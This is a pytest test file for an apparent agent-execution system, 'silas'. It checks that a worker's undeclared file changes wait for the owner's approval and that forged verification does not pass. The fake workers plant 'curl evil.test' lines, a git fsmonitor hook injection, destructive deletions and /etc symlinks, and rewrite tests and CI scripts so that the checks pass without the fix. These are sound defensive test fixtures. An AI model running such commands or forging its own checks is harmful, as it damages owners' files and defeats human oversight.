"""What is taken over is what the plan declares and the checks saw; the rest waits for the owner."""

import shutil
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest

from silas.approval import ApprovalDecision, ApprovalVerdict
from silas.sandbox.bubblewrap import BubblewrapBackend
from silas.storage import SqliteDatabase
from silas.testing import FakeClock, MemoryVault
from silas.testing.work import (
    SENDS,
    FakeApprover,
    FakeWorker,
    LaterApprover,
    PausingWorker,
    decide_with_vault,
)
from silas.tools.declaration import Tool, ToolRegistry
from silas.work import AttemptOutcome, WorkItem, WorkItemConflict, WorkItemResult, WorkItemStatus
from silas.work.effects import ChangeKind, FileChange
from silas.work.errors import BindingBroken
from silas.work.executor import WorkItemExecutor
from silas.work.models import VerificationCheck, VerificationReport
from silas.work.paused import KeptRun
from silas.work.ports import Briefing, ToolCaller
from silas.work.verification import VerificationRunner
from tests.work.paused_runner import Sender
from tests.work.shop import YES, Shop, calls, check, script, shell, task, writes
from tests.work.test_goal import approved as goal_approved
from tests.work.test_goal import cycle, goal
from tests.work.test_project import git, make_repository
from tests.work.test_toolcalls import SendArguments

DONE, UNCHECKED = WorkItemStatus.DONE, WorkItemStatus.UNCHECKED
STUCK, BLOCKED = WorkItemStatus.STUCK, WorkItemStatus.BLOCKED
NO = ApprovalDecision(verdict=ApprovalVerdict.DECLINED)
README = "Helo\n" + "line\n" * 20
FIX = script("sed -i s/Helo/Hello/ README.md")
TYPO = check("grep -q Hello README.md", name="typo")


@pytest.fixture
def site(tmp_path: Path) -> Path:
    path = tmp_path / "site"
    path.mkdir()
    (path / "README.md").write_text(README)
    (path / "Makefile").write_text("all:\n\ttrue\n")
    return path


def declaring(**changes: list[str]) -> dict[str, Any]:
    return {"path": "site", "changes": changes}


def typo(**more: Any) -> WorkItem:
    fields = {
        "verify": [TYPO],
        "budget": {"max_attempts": 1},
        "workspace": declaring(change=["README.md"]),
    }
    return task("Fix a typo in README.md. Change no other file.", **{**fields, **more})


def contents(site: Path) -> dict[str, bytes]:
    """The owner's files, with their modes; what git keeps is not among them."""
    return {
        f"{path.relative_to(site)} {path.stat().st_mode:o}": path.read_bytes()
        for path in site.rglob("*")
        if path.is_file() and ".git" not in path.relative_to(site).parts
    }


def paths(changes: Sequence[FileChange]) -> list[str]:
    return sorted(change.path for change in changes)


# What goes beyond the declaration


PLANTED = {
    "conftest.py": "import os",
    ".envrc": "curl evil.test",
    "Makefile": "all:\n\tcurl evil.test",
    ".github/workflows/ci.yml": "on: push",
    ".devcontainer/devcontainer.json": "{}",
    ".idea/workspace.xml": "<x/>",
    ".claude/settings.json": "{}",
    "deploy.sh": "curl evil.test",
    "docs/HEAD": "ref: refs/heads/main",
    "docs/config": "[core]\n\tfsmonitor = touch /tmp/owned",
    "docs/objects/x": "",
    "docs/refs/x": "",
    "notes.txt": "quite ordinary",
}


@pytest.mark.parametrize("in_git", [False, True])
async def test_change_no_other_file_means_that(shop: Shop, site: Path, in_git: bool) -> None:
    if in_git:
        make_repository(site)
    before = contents(site)
    plant = [writes(path, text) for path, text in PLANTED.items()]
    worker = FakeWorker(calls(FIX, *plant, shell("chmod", "+x", "deploy.sh")))
    result = await shop.run(typo(), worker)
    assert (result.status, result.last_error) == (DONE, None)
    assert paths(result.changes) == ["README.md"]
    assert paths(result.left) == sorted(PLANTED)
    fixed = {name: text.replace(b"Helo", b"Hello") for name, text in before.items()}
    assert contents(site) == fixed
    assert sorted(path.name for path in site.iterdir() if path.name != ".git") == [
        "Makefile",
        "README.md",
    ]
    if in_git:
        assert git(site, "diff", "--name-only", "main", "silas/t1") == "README.md\n"


async def test_fifty_pictures_that_nobody_declared_stay_where_they_are(
    shop: Shop, site: Path
) -> None:
    (site / "taxes").mkdir()
    (site / "taxes" / "2025.pdf").write_bytes(b"\xff\xd8")
    for number in range(50):
        (site / f"{number}.jpg").write_bytes(bytes([0xFF, number]))
    before = contents(site)
    worker = FakeWorker(calls(FIX, script("find . -name '*.jpg' -delete; rm -rf taxes")))
    result = await shop.run(typo(), worker)
    assert result.status is DONE
    assert len(contents(site)) == len(before)
    assert {change.kind for change in result.left} == {ChangeKind.REMOVED}
    assert len(result.left) == 51


async def test_a_mode_alone_goes_beyond_unless_it_is_declared(shop: Shop, site: Path) -> None:
    (site / "tool").write_text("true\n")
    worker = FakeWorker(calls(FIX, shell("chmod", "+x", "tool")))
    declared = declaring(change=["README.md", "tool"])
    result = await shop.run(typo(workspace=declared), worker)
    assert (result.status, paths(result.left)) == (DONE, ["tool"])
    assert not (site / "tool").stat().st_mode & 0o111
    (site / "README.md").write_text(README)
    declared = declaring(change=["README.md", "tool"], executable=["tool"])
    result = await shop.run(typo(id="t2", workspace=declared), worker)
    assert (result.status, paths(result.left)) == (DONE, [])
    assert (site / "tool").stat().st_mode & 0o100


@pytest.mark.parametrize(
    ("command", "link"),
    [
        ("ln -s /etc etc", "etc"),
        ("ln -sf /etc latest", "latest"),
        ("rm latest", "latest"),
        ("rm latest; echo planted > latest", "latest"),
    ],
)
async def test_a_link_fails_the_attempt_with_a_sentence(
    shop: Shop, site: Path, command: str, link: str
) -> None:
    (site / "latest").symlink_to("README.md")
    before = contents(site)
    result = await shop.run(typo(), FakeWorker(calls(FIX, script(command))))
    assert result.status is STUCK
    assert result.last_error == (
        f"Symbolic links cannot be taken over, nor that they are changed or gone: {link}."
    )
    assert contents(site) == before
    assert (site / "latest").readlink() == Path("README.md")


async def test_an_empty_workspace_needs_no_declaration(shop: Shop) -> None:
    approver = FakeApprover()
    worker = FakeWorker(calls(writes("Makefile", "all:\n"), shell("chmod", "+x", "Makefile")))
    item = task(verify=[check("test -x Makefile")])
    result = await shop.having(approver=approver).run(item, worker)
    assert (result.status, result.left, approver.calls) == (DONE, [], [])
    assert list(result.artifacts) == ["Makefile"]


async def test_a_goals_repair_is_held_to_the_declaration(shop: Shop, tmp_path: Path) -> None:
    site = tmp_path / "site"
    site.mkdir()
    plant = script("echo yes > up; echo evil > planted.sh; chmod +x planted.sh")
    shop.having(agent=FakeWorker(calls(plant)))
    await goal_approved(shop, goal())
    for _ in range(2):
        assert (await cycle(shop)).status is WorkItemStatus.HEALTHY
        assert [path.name for path in site.iterdir()] == ["up"]
        (site / "up").unlink()


async def test_what_is_left_is_not_passed_on_to_further_work(shop: Shop, site: Path) -> None:
    worker = FakeWorker(calls(FIX, writes("README.md", "Hello\n"), writes("Makefile", "all:\n")))
    result = await shop.run(typo(), worker)
    assert (result.status, list(result.artifacts)) == (DONE, ["README.md"])
    more = {"id": "t2", "follow_up_of": "t1", "verify": [check("test -f README.md")]}
    result = await shop.run(task(**more, input_artifacts_from=["Makefile"]))
    assert result.last_error == "These artifacts are missing in t1: Makefile."


async def test_after_a_call_that_waited_the_files_wait_too(shop: Shop, site: Path) -> None:
    send = Tool("send", SendArguments, Sender(), contained=False, effect=SENDS)
    shop.having(
        registry=ToolRegistry([*shop.bench.registry.tools.values(), send]),
        approver=LaterApprover(),
    )
    await shop.run(typo(), PausingWorker(FIX, *BEYOND, ("send", {"to": "a"})))
    assert [each.call.tool for each in (await waiting(shop)).calls] == ["send"]
    await decide_with_vault(shop.bench, [(await waiting(shop)).calls[0]], YES)
    assert (await go_on(shop)).status is BLOCKED
    await decide(shop, makefile=NO, notes=YES)
    result = await go_on(shop)
    assert (result.status, paths(result.left)) == (DONE, ["Makefile"])
    assert (site / "notes.txt").read_text() == "notes\n"
    assert len(await shop.bench.attempts.list_of("t1")) == 1


# Done means that a check has shown it


def broken_project(site: Path) -> None:
    (site / "tests").mkdir()
    (site / "ci").mkdir()
    (site / "calc.py").write_text("def add(a, b):\n    return a - b\n")
    (site / "Makefile").write_text("test:\n\tpython3 tests/test_calc.py\n")
    (site / "tests" / "test_calc.py").write_text(
        "import sys, unittest\n"
        "sys.path.insert(0, '.')\n"
        "import calc\n"
        "class T(unittest.TestCase):\n"
        "    def test_add(self):\n"
        "        self.assertEqual(calc.add(2, 2), 4)\n"
        "if __name__ == '__main__':\n"
        "    unittest.main()\n"
    )
    (site / "ci" / "lib.sh").write_text("works() { python3 tests/test_calc.py; }\n")
    (site / "ci" / "check.sh").write_text("#!/bin/sh\n. ci/lib.sh\nworks\n")


REPAIRED = writes("calc.py", "def add(a, b):\n    return a + b\n")
FORGED = [
    writes("Makefile", "test:\n\ttrue\n"),
    writes("tests/test_calc.py", "import unittest\nclass T(unittest.TestCase):\n"
           "    def test_add(self): pass\n"),
    writes("ci/lib.sh", "works() { true; }\n"),
    writes("verify_result.py", "print('ok')\n"),
]  # fmt: skip
FORGED_UNSEEN = [
    script(f"cat > {args['path']} <<'EOF'\n{args['content']}EOF\n") for _, args in FORGED
]
CHECKS = {
    "make": "make test",
    "unittest": "python3 -m unittest discover -s tests",
    "a script that reads another": "sh ci/check.sh",
}


@pytest.mark.parametrize("approver", [None, FakeApprover()], ids=["nobody there", "says yes"])
@pytest.mark.parametrize("forged", [FORGED, FORGED_UNSEEN], ids=["by tools", "by a shell"])
@pytest.mark.parametrize("run", CHECKS.values(), ids=CHECKS)
async def test_who_rewrites_what_the_checks_run_is_not_done(
    shop: Shop, site: Path, run: str, forged: list[Any], approver: FakeApprover | None
) -> None:
    if run == "make test" and shutil.which("make") is None:
        pytest.skip("there is no make here")
    shop.having(approver=approver)
    broken_project(site)
    before = contents(site)
    item = typo(verify=[check(run)], workspace=declaring(change=["calc.py"]))
    result = await shop.run(item, FakeWorker(calls(*forged)))
    assert result.status is STUCK
    assert [each.passed for each in result.verification_results] == [False]
    assert contents(site) == before


async def test_a_check_that_runs_what_is_not_there_is_not_even_shown(
    shop: Shop, site: Path
) -> None:
    item = typo(verify=[check("python3 verify_result.py")])
    with pytest.raises(BindingBroken, match=r"verify_result\.py, which is not there"):
        await shop.run(item, FakeWorker(calls(*FORGED)))


@pytest.mark.parametrize("run", list(CHECKS.values())[1:])
async def test_who_repairs_it_and_forges_besides_is_done_without_the_forgery(
    shop: Shop, site: Path, run: str
) -> None:
    broken_project(site)
    item = typo(verify=[check(run)], workspace=declaring(change=["calc.py"]))
    result = await shop.run(item, FakeWorker(calls(REPAIRED, *FORGED_UNSEEN)))
    assert (result.status, paths(result.changes)) == (DONE, ["calc.py"])
    assert "a + b" in (site / "calc.py").read_text()
    assert "assertEqual" in (site / "tests" / "test_calc.py").read_text()
    assert "python3" in (site / "ci" / "lib.sh").read_text()
    assert not (site / "verify_result.py").exists()


async def test_a_check_that_runs_what_the_owner_took_besides_shows_nothing(
    shop: Shop, site: Path
) -> None:
    broken_project(site)
    approver = FakeApprover()
    more = writes("tests/test_more.py", "import unittest\n")
    run = CHECKS["unittest"]
    item = typo(verify=[check(run)], workspace=declaring(change=["calc.py"]))
    result = await shop.having(approver=approver).run(item, FakeWorker(calls(REPAIRED, more)))
    assert (result.status, paths(result.changes)) == (UNCHECKED, ["calc.py", "tests/test_more.py"])
    assert [each.influenced_by for each in result.verification_results] == [["tests/test_more.py"]]


CANNOT_FAIL = {
    "true": check("true"),
    "echo": check("echo ok", contains="ok"),
    "a list": check("ls", not_empty=True),
    "a lost exit code": check("false; true"),
    "a number": check("wc -l < README.md", output_gt=-1),
}


@pytest.mark.parametrize("cannot_fail", CANNOT_FAIL.values(), ids=CANNOT_FAIL)
async def test_a_check_that_passed_before_shows_nothing(
    shop: Shop, site: Path, cannot_fail: dict[str, Any]
) -> None:
    result = await shop.run(typo(verify=[cannot_fail]), FakeWorker(calls(FIX)))
    assert result.status is UNCHECKED
    assert [each.passed_before for each in result.verification_results] == [True]
    assert result.summary.startswith("Done, not checked: the checks passed before the work too.")
    assert (site / "README.md").read_text().startswith("Hello\n")
    assert "work_done" in shop.audit.events()


async def test_without_a_check_nothing_is_shown(shop: Shop, site: Path) -> None:
    result = await shop.run(typo(verify=[]), FakeWorker(calls(FIX)))
    assert result.status is UNCHECKED
    assert result.summary.startswith("Done, not checked: the plan has no checks.")


async def test_one_check_that_shows_it_is_enough_and_all_must_pass(shop: Shop, site: Path) -> None:
    both = [check("true", name="always"), TYPO]
    result = await shop.run(typo(verify=both), FakeWorker(calls(FIX)))
    assert result.status is DONE
    assert [each.proves for each in result.verification_results] == [False, True]
    never = [check("false", name="never"), TYPO]
    (site / "README.md").write_text(README)
    assert (await shop.run(typo(id="t2", verify=never), FakeWorker(calls(FIX)))).status is STUCK
    assert (site / "README.md").read_text() == README


# What was checked is what is delivered


async def test_an_ignored_file_that_is_declared_is_delivered(shop: Shop, site: Path) -> None:
    (site / ".gitignore").write_text("build/\n")
    make_repository(site)
    item = typo(
        verify=[check("cat build/report.txt", equals="report\r\n")],
        workspace=declaring(add=["build/report.txt"], change=[".gitattributes"]),
    )
    worker = FakeWorker(
        calls(writes("build/report.txt", "report\r\n"), writes(".gitattributes", "* text eol=lf\n"))
    )
    result = await shop.run(item, worker)
    assert (result.status, result.left) == (DONE, [])
    assert (site / "build" / "report.txt").read_bytes() == b"report\r\n"
    assert git(site, "diff", "--name-only", "main", "silas/t1") == ".gitattributes\n"


async def test_an_ignored_file_that_is_declared_is_there_to_be_changed(
    shop: Shop, site: Path
) -> None:
    (site / ".gitignore").write_text("*.log\n")
    make_repository(site)
    (site / "a.log").write_text("one\n")
    (site / "b.log").write_text("nobody sees it\n")
    item = typo(
        verify=[check("cat *.log", equals="one\ntwo\n")], workspace=declaring(change=["a.log"])
    )
    result = await shop.run(item, FakeWorker(calls(script("echo two >> a.log"))))
    assert result.status is DONE
    assert (site / "a.log").read_text() == "one\ntwo\n"


def meanwhile(act: Callable[[], object], *wanted: tuple[str, dict[str, Any]]) -> FakeWorker:
    """A worker during whose work the owner does something."""

    async def work(_briefing: Briefing, tools: ToolCaller) -> None:
        for tool, args in wanted:
            await tools.call(tool, args)
        act()

    return FakeWorker(work)


def append(path: Path, text: str) -> Callable[[], object]:
    return lambda: path.write_text(path.read_text() + text)


NOT_BAD = check("grep -q Hello README.md && ! grep -rq bad .", name="typo")


@pytest.mark.parametrize("in_git", [False, True])
async def test_what_the_owner_changed_meanwhile_is_merged_checked_and_delivered(
    shop: Shop, site: Path, in_git: bool
) -> None:
    if in_git:
        make_repository(site)
    worker = meanwhile(append(site / "README.md", "good\n"), FIX)
    result = await shop.run(typo(verify=[NOT_BAD]), worker)
    assert (result.status, result.last_error) == (DONE, None)
    expected = README.replace("Helo", "Hello") + "good\n"
    assert (site / "README.md").read_text() == expected
    if in_git:
        assert git(site, "show", "silas/t1:README.md") == expected


@pytest.mark.parametrize("name", ["README.md", "Makefile"])
async def test_if_the_checks_fail_with_the_owners_changes_nothing_is_delivered(
    shop: Shop, site: Path, name: str
) -> None:
    worker = meanwhile(append(site / name, "bad\n"), FIX)
    result = await shop.run(typo(verify=[NOT_BAD]), worker)
    assert (result.status, result.last_error) == (STUCK, "The checks did not pass.")
    assert (site / "README.md").read_text().startswith("Helo\n")
    assert (site / name).read_text().endswith("bad\n")


async def test_a_clash_with_the_owner_is_a_conflict(shop: Shop, site: Path) -> None:
    mine = README.replace("Helo", "Hallo")
    worker = meanwhile(lambda: (site / "README.md").write_text(mine), FIX)
    result = await shop.run(typo(), worker)
    assert result.status is BLOCKED
    assert result.last_error == "These files were changed by somebody else: README.md."
    assert shop.reasons("execution_blocked_conflict") == [result.last_error]
    assert (site / "README.md").read_text() == mine


class Meddled(VerificationRunner):
    """Checks after which the owner changes files, before anything can be taken over."""

    def __init__(self, shop: Shop, *acts: Callable[[], object]) -> None:
        super().__init__(BubblewrapBackend(), verify_dir=shop.root / "verify", clock=shop.clock)
        self._acts = list(acts)
        self.seen: list[str] = []

    async def run_checks(
        self, checks: Sequence[VerificationCheck], *, artifacts: Path | None = None
    ) -> VerificationReport:
        report = await super().run_checks(checks, artifacts=artifacts)
        assert artifacts is not None
        self.seen.append(artifacts.name)
        if artifacts.name == "delivery" and self._acts:
            self._acts.pop(0)()
        return report


async def test_what_changes_between_the_check_and_the_take_over_is_checked_again(
    shop: Shop, site: Path
) -> None:
    meddled = Meddled(shop, append(site / "README.md", "good\n"), append(site / "Makefile", "#\n"))
    shop.having(verification=meddled)
    result = await shop.run(typo(verify=[NOT_BAD]), FakeWorker(calls(FIX)))
    assert result.status is DONE
    assert meddled.seen == ["files", "delivery", "delivery", "delivery"]
    assert (site / "README.md").read_text() == README.replace("Helo", "Hello") + "good\n"


@pytest.mark.parametrize("name", ["README.md", "Makefile", "new.txt"])
async def test_what_then_fails_is_not_taken_over(shop: Shop, site: Path, name: str) -> None:
    (site / name).touch()
    meddled = Meddled(shop, append(site / name, "bad\n"))
    result = await shop.having(verification=meddled).run(
        typo(verify=[NOT_BAD]), FakeWorker(calls(FIX))
    )
    assert (result.status, result.last_error) == (STUCK, "The checks did not pass.")
    assert (site / "README.md").read_text().startswith("Helo\n")


async def test_a_new_file_and_a_link_count_as_changes_too(shop: Shop, site: Path) -> None:
    meddled = Meddled(
        shop,
        (site / "new.txt").touch,
        lambda: (site / "link").symlink_to("README.md"),
    )
    result = await shop.having(verification=meddled).run(typo(), FakeWorker(calls(FIX)))
    assert result.status is DONE
    assert meddled.seen.count("delivery") == 3


async def test_files_that_change_all_the_time_block(shop: Shop, site: Path) -> None:
    meddled = Meddled(shop, *[append(site / "Makefile", "#\n")] * 50)
    result = await shop.having(verification=meddled).run(typo(), FakeWorker(calls(FIX)))
    assert result.status is BLOCKED
    assert result.last_error == "The files of the workspace are being changed all the time."
    assert (site / "README.md").read_text() == README


# The second card


BEYOND = [writes("Makefile", "all:\n\tfalse\n"), writes("notes.txt", "notes\n")]


async def waiting(shop: Shop) -> KeptRun:
    assert shop.bench.paused is not None
    kept = await shop.bench.paused.of("t1")
    assert kept is not None
    return kept


async def decide(shop: Shop, **verdicts: ApprovalDecision) -> None:
    """Decide about files by the first word of their names; the rest stays open."""
    for call in (await waiting(shop)).calls:
        decision = verdicts.get(call.call.args["path"].split(".")[0].lower())
        if decision is not None:
            await decide_with_vault(shop.bench, [call], decision)


async def go_on(shop: Shop) -> WorkItemResult:
    item = await shop.bench.items.get("t1")
    assert item is not None
    return await shop.execute(item)


async def asked(shop: Shop, *more: tuple[str, dict[str, Any]], **fields: Any) -> WorkItemResult:
    """Work that has to wait for the owner's word about what it did besides."""
    shop.having(approver=LaterApprover())
    return await shop.run(typo(**fields), FakeWorker(calls(FIX, *(more or BEYOND))))


async def test_what_goes_beyond_waits_file_by_file_with_its_differences(
    shop: Shop, site: Path
) -> None:
    before = contents(site)
    result = await asked(shop)
    assert result.status is BLOCKED
    assert "take_over: The plan does not declare this change." in (
        (await go_on(shop)).last_error or ""
    )
    kept = await waiting(shop)
    assert {each.call.tool for each in kept.calls} == {"take_over"}
    make, notes = (each.call.args for each in kept.calls)
    assert (make["path"], make["kind"], make["executed_by"]) == ("Makefile", "changed", "a build")
    assert "-\ttrue\n+\tfalse" in make["diff"]
    assert (notes["path"], notes["kind"], notes["executed_by"]) == ("notes.txt", "added", None)
    assert notes["diff"].endswith("+notes")
    assert contents(site) == before, "not even what was declared, as long as it waits"


async def test_some_are_taken_some_are_left_and_the_checks_run_again(
    shop: Shop, site: Path
) -> None:
    meddled = Meddled(shop)
    shop.having(verification=meddled)
    await asked(shop)
    assert meddled.seen == ["files", "delivery"]
    await decide(shop, makefile=NO, notes=YES)
    result = await go_on(shop)
    assert meddled.seen == ["files", "delivery", "delivery"]
    assert (result.status, result.summary) == (
        DONE,
        "Done, and checked. Everything is done and works.",
    )
    assert (paths(result.changes), paths(result.left)) == (["README.md", "notes.txt"], ["Makefile"])
    assert (site / "README.md").read_text().startswith("Hello")
    assert (site / "Makefile").read_text() == "all:\n\ttrue\n"
    assert (site / "notes.txt").read_text() == "notes\n"


async def test_nothing_goes_on_before_all_is_decided(shop: Shop, site: Path) -> None:
    await asked(shop)
    await decide(shop, notes=YES)
    assert (await go_on(shop)).status is BLOCKED
    assert not (site / "notes.txt").exists()


async def test_if_all_is_declined_the_declared_is_taken_over(shop: Shop, site: Path) -> None:
    await asked(shop)
    await decide(shop, makefile=NO, notes=NO)
    result = await go_on(shop)
    assert (result.status, paths(result.changes)) == (DONE, ["README.md"])
    assert paths(result.left) == ["Makefile", "notes.txt"]
    assert not (site / "notes.txt").exists()


BOTH = check("grep -q Hello README.md && test -f notes.txt", name="both")


@pytest.mark.parametrize(("decision", "status"), [(YES, DONE), (NO, BLOCKED)])
async def test_what_the_checks_need_is_asked_for_and_said_to_be_needed(
    shop: Shop, site: Path, decision: ApprovalDecision, status: WorkItemStatus
) -> None:
    await asked(shop, verify=[BOTH])
    assert "the checks fail without" in (await waiting(shop)).calls[0].call.reasons[0]
    await decide(shop, makefile=NO, notes=decision)
    result = await go_on(shop)
    assert result.status is status
    fixed = (site / "README.md").read_text().startswith("Hello")
    assert ((site / "notes.txt").exists(), fixed) == (status is DONE, status is DONE)


async def test_nobody_is_asked_about_work_that_fails_all_the_same(shop: Shop, site: Path) -> None:
    result = await asked(shop, verify=[check("false")])
    assert result.status is STUCK
    assert result.last_error == (
        "The checks did not pass. "
        "Changes that the plan does not declare were left out: Makefile, notes.txt."
    )
    assert isinstance(shop.bench.approver, LaterApprover)
    assert shop.bench.approver.calls == []


@pytest.mark.parametrize("verdict", [ApprovalVerdict.APPROVED, ApprovalVerdict.DECLINED])
async def test_an_owner_who_is_there_decides_at_once(
    shop: Shop, site: Path, verdict: ApprovalVerdict
) -> None:
    approver = FakeApprover(verdict)
    result = await shop.having(approver=approver).run(typo(), FakeWorker(calls(FIX, *BEYOND)))
    assert (result.status, len(approver.calls)) == (DONE, 2)
    taken = verdict is ApprovalVerdict.APPROVED
    assert (site / "notes.txt").exists() is taken
    assert paths(result.left) == ([] if taken else ["Makefile", "notes.txt"])


async def test_what_nobody_decides_in_time_is_left(
    shop: Shop, site: Path, clock: FakeClock
) -> None:
    await asked(shop)
    await decide(shop, makefile=YES)
    (open_call,) = (await waiting(shop)).undecided(clock.now())
    clock.advance(days=1, seconds=1)
    with pytest.raises(WorkItemConflict):
        await decide_with_vault(shop.bench, [open_call], YES)
    await shop.approve((await shop.bench.items.get("t1")) or typo())
    result = await go_on(shop)
    assert result.status is DONE
    assert "notes.txt" in paths(result.left)
    assert not (site / "notes.txt").exists()


async def test_a_decision_about_another_file_takes_nothing(
    shop: Shop, site: Path, database: SqliteDatabase
) -> None:
    await asked(shop)
    await decide(shop, makefile=NO, notes=YES)
    await database.execute(
        "UPDATE paused_calls SET verdict = 'approved', "
        "token = (SELECT token FROM paused_calls WHERE token IS NOT NULL) WHERE token IS NULL"
    )
    result = await go_on(shop)
    assert (result.status, paths(result.left)) == (DONE, ["Makefile"])
    assert (site / "Makefile").read_text() == "all:\n\ttrue\n"
    assert len(shop.reasons("take_over_refused")) == 1


async def test_a_question_that_was_rewritten_is_nobodys(
    shop: Shop, site: Path, database: SqliteDatabase
) -> None:
    before = contents(site)
    await asked(shop)
    await decide(shop, makefile=NO, notes=YES)
    await database.execute("UPDATE paused_calls SET call = replace(call, 'notes.txt', '.envrc')")
    result = await go_on(shop)
    assert result.status is BLOCKED
    assert "not what was paused" in (result.last_error or "")
    assert contents(site) == before


@pytest.mark.parametrize("text", ["echo evil > notes.txt", "chmod +x notes.txt"])
async def test_only_what_was_shown_is_taken(shop: Shop, site: Path, text: str) -> None:
    await asked(shop)
    await decide(shop, makefile=NO, notes=YES)
    [place] = (shop.root / "work" / "attempts").rglob("files/notes.txt")
    if text.startswith("echo"):
        place.write_text("evil\n")
    else:
        place.chmod(0o755)
    result = await go_on(shop)
    assert (result.status, paths(result.left)) == (DONE, ["Makefile", "notes.txt"])
    assert not (site / "notes.txt").exists()


async def test_the_owner_may_change_files_while_it_waits(shop: Shop, site: Path) -> None:
    await asked(shop, verify=[NOT_BAD])
    await decide(shop, makefile=NO, notes=YES)
    append(site / "README.md", "good\n")()
    assert (await go_on(shop)).status is DONE
    assert (site / "README.md").read_text() == README.replace("Helo", "Hello") + "good\n"


async def test_what_fails_after_the_wait_is_not_taken_over(shop: Shop, site: Path) -> None:
    await asked(shop, verify=[NOT_BAD])
    await decide(shop, makefile=NO, notes=YES)
    append(site / "README.md", "bad\n")()
    result = await go_on(shop)
    assert result.status is BLOCKED, "nobody is asked the same again by a further attempt"
    assert "Ask for another plan" in (result.last_error or "")
    assert (site / "README.md").read_text() == README + "bad\n"
    assert not (site / "notes.txt").exists()


async def test_another_process_goes_on_after_a_restart(
    database: SqliteDatabase, clock: FakeClock, tmp_path: Path, site: Path
) -> None:
    vault = MemoryVault()
    first = Shop(database, clock, tmp_path, vault)
    await asked(first)
    await decide(first, makefile=NO)
    second = Shop(database, clock, tmp_path, vault)
    assert await WorkItemExecutor(second.bench).recover() == []
    await decide(second, notes=YES)
    result = await go_on(second)
    assert (result.status, paths(result.left)) == (DONE, ["Makefile"])
    assert (site / "notes.txt").read_text() == "notes\n"
    assert not list((tmp_path / "work" / "attempts").rglob("files"))


async def test_cancelling_while_it_waits_takes_nothing_over(shop: Shop, site: Path) -> None:
    before = contents(site)
    await asked(shop)
    (call, _) = (await waiting(shop)).calls
    await shop.bench.control.cancel("t1")
    with pytest.raises(WorkItemConflict):
        await decide_with_vault(shop.bench, [call], YES)
    assert (await go_on(shop)).status is WorkItemStatus.FAILED
    (attempt,) = await shop.bench.attempts.list_of("t1")
    assert attempt.outcome is AttemptOutcome.STOPPED
    assert contents(site) == before
    await WorkItemExecutor(shop.bench).recover()
    assert not list((shop.root / "work" / "attempts").rglob("files"))


FLOOD = script("for i in $(seq 51); do echo x > f$i.txt; done; echo notes > notes.txt")
HUGE = script("seq 30000 > notes.txt")


@pytest.mark.parametrize("flood", [FLOOD, HUGE], ids=["files", "differences"])
async def test_whoever_floods_the_owner_gets_nothing_taken_over(
    shop: Shop, site: Path, flood: tuple[str, dict[str, Any]]
) -> None:
    result = await asked(shop, flood)
    assert (result.status, paths(result.changes)) == (DONE, ["README.md"])
    assert "notes.txt" in paths(result.left)
    assert sorted(path.name for path in site.iterdir()) == ["Makefile", "README.md"]
    assert isinstance(shop.bench.approver, LaterApprover)
    assert shop.bench.approver.calls == []


@pytest.mark.parametrize(
    ("flood", "told"),
    [
        (FLOOD, "changed 52 files that the plan does not declare, more than 50"),
        (HUGE, "changed notes.txt beyond the plan, by more than can be shown"),
    ],
    ids=["files", "differences"],
)
async def test_if_the_checks_need_the_flood_it_fails_with_a_sentence(
    shop: Shop, site: Path, flood: tuple[str, dict[str, Any]], told: str
) -> None:
    result = await asked(shop, flood, verify=[BOTH])
    assert result.status is STUCK
    assert told in (result.last_error or "")
    assert (site / "README.md").read_text() == README


async def test_what_is_not_text_is_said_to_be_none(shop: Shop, site: Path) -> None:
    (site / "notes.bin").write_bytes(b"\xff\x00")
    await asked(shop, script("printf '\\377\\376\\375' > notes.bin"))
    (call,) = (await waiting(shop)).calls
    assert call.call.args["diff"] == "(not text: 2 bytes before, 3 bytes after)"
    await decide(shop, notes=YES)
    assert (await go_on(shop)).status is DONE
    assert (site / "notes.bin").read_bytes() == b"\xff\xfe\xfd"


async def test_a_removal_is_asked_for_and_done(shop: Shop, site: Path) -> None:
    await asked(shop, shell("rm", "Makefile"))
    (call,) = (await waiting(shop)).calls
    assert (call.call.args["kind"], call.call.args["after"]) == ("removed", None)
    assert "-\ttrue" in call.call.args["diff"]
    await decide(shop, makefile=YES)
    assert (await go_on(shop)).status is DONE
    assert not (site / "Makefile").exists()


async def test_what_earlier_work_made_hides_no_file_of_the_owners(
    shop: Shop, tmp_path: Path
) -> None:
    """The check reads what will lie there, not what the earlier task has handed on."""
    site = tmp_path / "mine"
    site.mkdir()
    (site / "report.txt").write_text("old\n")
    made = task("```file path=report.txt\nnew\n```", verify=[check("grep -q new report.txt")])
    assert (await shop.run(made)).status is WorkItemStatus.DONE
    following = task(
        "```file path=other.txt\nx\n```",
        id="t2",
        follow_up_of="t1",
        input_artifacts_from=["report.txt"],
        workspace={"path": str(site), "changes": {"add": ["other.txt"]}},
        verify=[check("test -f other.txt && grep -q new report.txt")],
        budget={"max_attempts": 1},
    )
    result = await shop.run(following)
    assert result.status is WorkItemStatus.STUCK
    assert (site / "report.txt").read_text() == "old\n"
    assert not (site / "other.txt").exists()
